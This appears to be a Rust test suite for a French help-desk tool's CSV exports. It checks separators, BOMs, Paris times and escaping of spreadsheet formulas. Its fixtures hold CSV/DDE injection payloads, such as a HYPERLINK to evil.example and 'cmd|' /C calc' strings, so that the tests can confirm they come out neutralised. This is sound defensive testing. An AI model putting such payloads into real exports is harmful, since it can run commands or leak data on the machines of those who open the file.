//! Every CSV the program writes, read back with the `csv` crate as a spreadsheet would read
//! it (with `,` and with `;` and a byte order mark, as LibreOffice and Excel set to French
//! want it): formulas come back neutralised, phone numbers intact with their leading 0,
//! times in Paris beside UTC, statuses and outcomes in French beside their slugs, durations
//! in seconds.

use crate::common::desk;

use desk::{Desk, Engine};
use std::collections::HashMap;

/// A desk whose login name (the default operator) is dupontje.
fn new_desk(engine: Engine) -> Desk {
    Desk::on(engine).with_user("dupontje")
}

/// `call add` on the service mi, the device noemi, with `extra`; returns the reference.
fn add(desk: &Desk, extra: &[&str]) -> String {
    let mut args = vec!["call", "add", "--service", "mi", "--device", "noemi"];
    args.extend_from_slice(extra);
    desk.ok(&args).trim().to_string()
}

/// A CSV read back: the header, then each row as column name → cell.
struct Sheet {
    header: Vec<String>,
    rows: Vec<HashMap<String, String>>,
}

impl Sheet {
    fn row(&self, column: &str, value: &str) -> &HashMap<String, String> {
        self.rows
            .iter()
            .find(|r| r[column] == value)
            .unwrap_or_else(|| panic!("no row with {column} = {value}"))
    }
}

/// Checks what every CSV must be (CR LF line ends, the BOM when asked, no live formula),
/// then reads it with the `csv` crate.
fn read(bytes: &[u8], separator: u8, bom: bool) -> Sheet {
    let text = std::str::from_utf8(bytes).unwrap();
    assert_eq!(text.starts_with('\u{feff}'), bom, "BOM: {text:?}");
    let body = text.trim_start_matches('\u{feff}');
    assert!(body.ends_with("\r\n"), "{body:?}");
    for (i, _) in body.match_indices('\n') {
        assert_eq!(&body[i - 1..i], "\r", "a line not ended by CR LF: {body:?}");
    }
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(separator)
        .from_reader(body.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let rows: Vec<HashMap<String, String>> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            assert_eq!(r.len(), header.len());
            header
                .iter()
                .cloned()
                .zip(r.iter().map(String::from))
                .collect()
        })
        .collect();
    for row in &rows {
        for (column, cell) in row {
            let first = cell.trim_start_matches(' ').chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "live formula in {column}: {cell:?}"
            );
        }
    }
    Sheet { header, rows }
}

/// Three calls: one closed after 41 s in winter, one open in summer, one escalated; their
/// fields hold what a spreadsheet would run.
fn desk_with_calls(engine: Engine) -> Desk {
    let desk = new_desk(engine);
    let a1 = add(
        &desk,
        &[
            "--caller",
            "Zoé Martin",
            "--phone",
            "06 12 34 56 78",
            "--email",
            "zoe.martin@interieur.gouv.fr",
            "--summary",
            "=HYPERLINK(\"http://evil.example/?x\",\"clic\")",
            "--at",
            "2026-12-01T14:05",
        ],
    );
    assert_eq!(a1, "A-0001");
    desk.bytes(&["call", "close", "A-0001", "--outcome", "resolved"]);
    add(
        &desk,
        &[
            "--caller",
            "Bruno Lefèvre",
            "--phone",
            "+33 6 12 34 56 78",
            "--summary",
            "+1+cmd|' /C calc'!A0",
            "--at",
            "2026-07-01T14:00",
        ],
    );
    add(
        &desk,
        &[
            "--caller",
            "@SUM(1+1)",
            "--phone",
            "+44 20 7946 0958",
            // clap reads a lone "-2+3" as an option.
            "--summary=-2+3",
            "--at",
            "2026-12-01T15:00",
        ],
    );
    desk.bytes(&["call", "close", "A-0003", "--outcome", "escalated"]);
    // The first call lasted 41 s; the third 20 min 5 s. Backdating a fixture is the
    // owner's surgery, not a console's: the guard that keeps what a call was is lifted
    // around it, then put back as its migration made it.
    let opened = 1_796_130_300_i64; // 2026-12-01T13:05:00Z, 14:05 in Paris
    desk.with_record_guards_lifted(|desk| {
        desk.sql(
            "UPDATE calls SET opened_at = ?1, closed_at = ?2 WHERE id = 1",
            sql_args![opened, opened + 41],
        );
        desk.sql(
            "UPDATE calls SET closed_at = opened_at + 1205 WHERE id = 3",
            &[],
        );
        // A row an older version or another tool wrote: a tab and a CR first.
        desk.sql(
            "INSERT INTO calls (opened_at, operator, caller_name, caller_phone, service, device, \
             summary, status, search_key, handler) \
             VALUES (?1, 'dupontje', ?2, '0140072000', 'mi', 'noemi', ?3, 'open', 'x', 'dupontje')",
            sql_args![opened + 600, "\r=1+1", "\t=1+1"],
        );
    });
    desk
}

fn check_calls(sheet: &Sheet, decimal: &str) {
    for column in [
        "reference",
        "opened_at",
        "opened_paris",
        "closed_at",
        "closed_paris",
        "status",
        "status_label",
        "outcome",
        "outcome_label",
        "caller_phone",
        "summary",
        "handling_secs",
        "handling",
        "handling_minutes",
    ] {
        assert!(sheet.header.iter().any(|h| h == column), "{column}");
    }
    let a1 = sheet.row("reference", "A-0001");
    assert_eq!(
        a1["summary"],
        "'=HYPERLINK(\"http://evil.example/?x\",\"clic\")"
    );
    assert_eq!(a1["caller_name"], "Zoé Martin");
    assert_eq!(a1["caller_phone"], "06 12 34 56 78");
    assert_eq!(a1["caller_email"], "zoe.martin@interieur.gouv.fr");
    assert_eq!(a1["opened_at"], "2026-12-01T13:05:00Z");
    assert_eq!(a1["opened_paris"], "2026-12-01 14:05:00");
    assert_eq!(a1["closed_at"], "2026-12-01T13:05:41Z");
    assert_eq!(a1["closed_paris"], "2026-12-01 14:05:41");
    assert_eq!(a1["status"], "closed");
    assert_eq!(a1["status_label"], "clos");
    assert_eq!(a1["outcome"], "resolved");
    assert_eq!(a1["outcome_label"], "résolu");
    assert_eq!(a1["service_label"], "Ministère de l'Intérieur");
    assert_eq!(a1["handling_secs"], "41");
    assert_eq!(a1["handling"], "0:00:41");
    assert_eq!(a1["handling_minutes"], format!("0{decimal}68"));

    let a2 = sheet.row("reference", "A-0002");
    assert_eq!(a2["caller_phone"], "06 12 34 56 78", "+33 in national form");
    assert_eq!(a2["summary"], "'+1+cmd|' /C calc'!A0");
    assert_eq!(a2["opened_at"], "2026-07-01T12:00:00Z");
    assert_eq!(a2["opened_paris"], "2026-07-01 14:00:00", "summer time");
    assert_eq!(a2["status_label"], "ouvert");
    assert_eq!(a2["outcome"], "");
    assert_eq!(a2["handling_secs"], "");

    let a3 = sheet.row("reference", "A-0003");
    assert_eq!(a3["caller_name"], "'@SUM(1+1)");
    assert_eq!(a3["summary"], "'-2+3");
    // Kept as typed with its `+`, which the apostrophe makes inert.
    assert_eq!(a3["caller_phone"], "'+44 20 7946 0958");
    assert_eq!(a3["outcome_label"], "escaladé (2e niveau)");
    assert_eq!(a3["handling_secs"], "1205");
    assert_eq!(a3["handling"], "0:20:05");
    assert_eq!(a3["handling_minutes"], format!("20{decimal}08"));

    let a4 = sheet.row("reference", "A-0004");
    assert_eq!(a4["summary"], "'␉=1+1");
    assert_eq!(a4["caller_name"], "'␍=1+1");
    assert_eq!(a4["caller_phone"], "01 40 07 20 00");
}

on_both_engines! {
fn call_list_reads_right_in_a_french_spreadsheet(engine: Engine) {
    let desk = desk_with_calls(engine);
    let list = &["call", "list", "--format", "csv"];
    check_calls(&read(&desk.bytes(list), b',', false), ".");
    let mut french = list.to_vec();
    french.extend(["--separator", ";", "--bom"]);
    check_calls(&read(&desk.bytes(&french), b';', true), ",");
    let mut tabs = list.to_vec();
    tabs.extend(["--separator", "tab"]);
    check_calls(&read(&desk.bytes(&tabs), b'\t', false), ".");
}
}

on_both_engines! {
fn the_handover_csv_is_the_same_call_csv(engine: Engine) {
    let desk = desk_with_calls(engine);
    let args = [
        "report",
        "handover",
        "--from",
        "2026-06-01T00:00",
        "--to",
        "2026-12-02T00:00",
        "--format",
        "csv",
        "--separator",
        ";",
        "--bom",
    ];
    let handover = read(&desk.bytes(&args), b';', true);
    check_calls(&handover, ",");
    let list = read(
        &desk.bytes(&[
            "call",
            "list",
            "--format",
            "csv",
            "--separator",
            ";",
            "--bom",
        ]),
        b';',
        true,
    );
    assert_eq!(handover.header, list.header);
    // Oldest first in the report, newest first in the list.
    assert_eq!(handover.rows[0]["reference"], "A-0002");
    assert_eq!(list.rows[0]["reference"], "A-0003");
}
}

on_both_engines! {
fn call_add_in_csv_is_one_row_of_the_same_columns(engine: Engine) {
    let desk = new_desk(engine);
    let bytes = desk.bytes(&[
        "call",
        "add",
        "--service",
        "acn-rouen",
        "--device",
        "copier",
        "--caller",
        "Anne Çelik",
        "--phone",
        "0235141516",
        "--summary",
        "=1+1",
        "--format",
        "csv",
        "--separator",
        ";",
        "--bom",
    ]);
    let sheet = read(&bytes, b';', true);
    assert_eq!(sheet.rows.len(), 1);
    let row = &sheet.rows[0];
    assert_eq!(row["reference"], "A-0001");
    assert_eq!(row["caller_phone"], "02 35 14 15 16");
    assert_eq!(row["summary"], "'=1+1");
    assert_eq!(row["status_label"], "ouvert");
}
}

on_both_engines! {
fn call_show_in_csv_is_the_journal_with_paris_times_and_labels(engine: Engine) {
    let started = chrono::Utc::now().timestamp();
    let desk = desk_with_calls(engine);
    desk.bytes(&["call", "note", "A-0001", "=cmd|' /C calc'!A0"]);
    for (extra, sep, bom) in [
        (&[][..], b',', false),
        (&["--separator", ";", "--bom"][..], b';', true),
    ] {
        let mut args = vec!["call", "show", "A-0001", "--format", "csv"];
        args.extend(extra);
        let sheet = read(&desk.bytes(&args), sep, bom);
        assert_eq!(
            sheet.header,
            [
                "reference",
                "at",
                "at_paris",
                "operator",
                "kind",
                "kind_label",
                "text",
                "detail"
            ]
        );
        let opened = sheet.row("kind", "opened");
        assert_eq!(opened["reference"], "A-0001");
        assert_eq!(opened["kind_label"], "ouverture");
        assert_eq!(
            opened["text"],
            "'=HYPERLINK(\"http://evil.example/?x\",\"clic\")"
        );
        // A file keeps the time the desk gave; a server dates the line when it got it.
        match engine {
            Engine::Sqlite => assert_eq!(opened["at_paris"], "2026-12-01 14:05:00"),
            Engine::Postgres => {
                let at = chrono::DateTime::parse_from_rfc3339(&opened["at"])
                    .unwrap()
                    .timestamp();
                assert!(
                    (started..=chrono::Utc::now().timestamp()).contains(&at),
                    "{}",
                    opened["at"]
                );
            }
        }
        let outcome = sheet.row("kind", "outcome");
        assert_eq!(outcome["text"], "resolved");
        assert_eq!(outcome["detail"], "issue : résolu");
        let note = sheet.row("kind", "note");
        assert_eq!(note["text"], "'=cmd|' /C calc'!A0");
    }
}
}

#[test]
fn the_other_csvs_share_the_writer() {
    let desk = new_desk(Engine::Sqlite);
    for (args, sep, bom) in [
        (&["procedures", "list", "--format", "csv"][..], b',', false),
        (
            &[
                "procedures",
                "list",
                "--format",
                "csv",
                "--separator",
                ";",
                "--bom",
            ],
            b';',
            true,
        ),
        (
            &[
                "procedures",
                "search",
                "carte agent",
                "--format",
                "csv",
                "--separator",
                ";",
            ],
            b';',
            false,
        ),
        (
            &[
                "tools",
                "xivo",
                "--format",
                "csv",
                "--separator",
                ";",
                "--bom",
            ],
            b';',
            true,
        ),
        (
            &[
                "tools",
                "spell",
                "=A-1",
                "--format",
                "csv",
                "--separator",
                ";",
            ],
            b';',
            false,
        ),
        (
            &[
                "tools",
                "printer",
                "decode",
                "I76RC-DSI04-B4",
                "--format",
                "csv",
                "--bom",
            ],
            b',',
            true,
        ),
    ] {
        let sheet = read(&desk.bytes(args), sep, bom);
        assert!(!sheet.rows.is_empty(), "{args:?}");
    }
    let spelled = read(
        &desk.bytes(&["tools", "spell", "=A-1", "--format", "csv"]),
        b',',
        false,
    );
    assert_eq!(spelled.rows[0]["character"], "'=");
    assert_eq!(spelled.rows[2]["character"], "'-");
}
